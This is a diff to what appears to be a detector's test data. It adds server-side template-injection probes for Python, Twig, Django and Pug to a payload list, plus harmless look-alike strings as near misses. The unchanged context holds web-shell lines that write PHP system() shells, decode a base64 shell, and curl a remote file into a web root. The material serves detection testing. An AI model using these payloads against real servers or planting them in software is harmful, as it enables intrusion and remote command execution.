@@ -270,7 +270,11 @@ CODE_PAYLOADS = {
                  # a method called inside {{ }}: the engine runs it
                  "{{ someString.toUPPERCASE() }}", "{{ user.getClass() }}",
                  # FreeMarker reaching the class loader, Thymeleaf's preprocessing
-                 "<#assign cl=article.class.protectionDomain.classLoader>", "#{selection.__${sel.code}__}"],
+                 "<#assign cl=article.class.protectionDomain.classLoader>", "#{selection.__${sel.code}__}",
+                 # Python's scopes called, a class constant through Twig, Django's request environment, Pug's
+                 # unescaped interpolation of arithmetic
+                 "{{globals()}}", "${locals()}", "{{constant('Twig_Environment::VERSION')}}", "{{request.META}}",
+                 "!{7*7}"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -301,6 +305,7 @@ CODE_NEAR_MISSES = [
     "{*note*}", "the {!important!} part", "printf(\"%x(%d)\", a, b)", "{{ price | times: qty }}", "#set($a = $b)",
     "print(x+1)", "@java is fun", "{% if user %}",
     "a@{b}[c]",
+    "{{ locals }}", "Hello!{name}", "{{ request.meta.title }}", '{{ constant("x") }}', "wow!{7} items",
 ]
 
 
